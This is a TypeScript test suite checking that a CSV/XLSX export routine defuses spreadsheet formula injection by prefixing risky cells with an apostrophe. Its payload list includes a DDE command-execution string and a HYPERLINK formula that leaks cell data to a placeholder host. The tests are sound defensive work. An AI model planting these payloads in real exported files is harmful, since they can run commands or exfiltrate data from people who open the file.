import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import ExcelJS from 'exceljs';
import { cellValue, exportRows, neutralise } from './export-rows.ts';

async function text(stream: NodeJS.ReadableStream): Promise<Buffer> {
  const chunks: Buffer[] = [];
  for await (const chunk of stream) chunks.push(Buffer.from(chunk as Buffer));
  return Buffer.concat(chunks);
}

const PAYLOADS = [
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-2+3',
  '@SUM(1+1)',
  '\t=1',
  '\r=1',
  '=HYPERLINK("http://x/?d="&A1,"x")',
];

describe('export cells (SEC-CSV-01)', () => {
  test('text that a spreadsheet would run as a formula gets a leading apostrophe', () => {
    for (const p of PAYLOADS) assert.equal(neutralise(p), `'${p}`);
    assert.equal(neutralise('张三'), '张三');
    assert.equal(neutralise('a=b'), 'a=b');
  });

  test('numbers stay numbers in number columns, negative ones too; elsewhere they are text', () => {
    const num = { key: 'n', header: 'N', type: 'number' as const };
    const txt = { key: 't', header: 'T' };
    assert.equal(cellValue(num, -5), -5);
    assert.equal(cellValue(num, '-12.50'), '-12.50');
    assert.equal(cellValue(num, '-1+1'), "'-1+1");
    assert.equal(cellValue(txt, '-5'), "'-5");
    assert.equal(cellValue(txt, null), '');
    assert.equal(cellValue(txt, true), 'true');
  });

  test('CSV: UTF-8 BOM, CRLF, quoting, every payload neutralised', async () => {
    const columns = [
      { key: 'name', header: 'Name' },
      { key: 'amount', header: 'Amount', type: 'number' as const },
    ];
    const rows = [...PAYLOADS.map((name) => ({ name, amount: -1 })), { name: 'Zhang, "San"', amount: '3.5' }];
    const out = (await text(exportRows('csv', columns, rows))).toString('utf8');
    assert.ok(out.startsWith('\uFEFFName,Amount\r\n'));
    assert.ok(out.includes(`\r\n'=cmd|' /C calc'!A0,-1\r\n`));
    assert.ok(out.includes('"Zhang, ""San""",3.5\r\n'));
    for (const line of out.slice(1).split('\r\n').filter(Boolean))
      assert.doesNotMatch(line, /^"?[=+\-@\t\r]/);
  });

  test('XLSX: the same text is written as text with the apostrophe; numbers are numeric cells', async () => {
    const columns = [
      { key: 'name', header: 'Name' },
      { key: 'amount', header: 'Amount', type: 'number' as const },
    ];
    const out = await text(
      exportRows(
        'xlsx',
        columns,
        PAYLOADS.map((name) => ({ name, amount: '-7.25' })),
      ),
    );
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(out as any);
    const sheet = book.worksheets[0];
    assert.deepEqual((sheet.getRow(1).values as unknown[]).slice(1), ['Name', 'Amount']);
    PAYLOADS.forEach((p, i) => {
      // XML turns a stored CR into LF on reading; what matters is the leading apostrophe.
      assert.equal(sheet.getCell(i + 2, 1).value, `'${p}`.replace(/\r/g, '\n'));
      assert.equal(sheet.getCell(i + 2, 2).value, -7.25);
    });
  });
});
